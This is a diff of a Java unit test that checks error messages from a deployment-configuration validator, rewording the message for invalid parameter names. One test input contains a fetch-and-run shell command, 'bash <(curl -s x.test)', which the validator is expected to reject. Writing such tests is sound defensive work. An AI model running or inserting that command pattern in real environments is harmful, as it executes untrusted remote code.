@@ -68,12 +68,12 @@ class WordsCheckTest {
     @ParameterizedTest
     @CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
                     {"parameters": {"nobody": "x_y"}}|there is no such parameter
-                    {"parameters": {"branch": "a b"}}|is no name of a parameter
+                    {"parameters": {"branch": "a b"}}|cannot be the name of a parameter
                     {"parameters": {"branch": "env"}}|two would be alike
                     {"parameters": {"branch": "x", "env": "x"}}|two would be alike
-                    {"parameters": {"branch": "PATH"}}|is no name of a parameter
+                    {"parameters": {"branch": "PATH"}}|cannot be the name of a parameter
                     {"parameters": ["branch"]}|has another form
-                    {"parameters": {"branch": ""}}|is no name of a parameter
+                    {"parameters": {"branch": ""}}|cannot be the name of a parameter
                     {"name": {"a": 1}}|has another form
                     {"title": "A deployment", "limits": {"retries": 9}}|nothing else
                     {"title": "A deployment", "sentence": "bash <(curl -s x.test)"}|runs code that it has just fetched
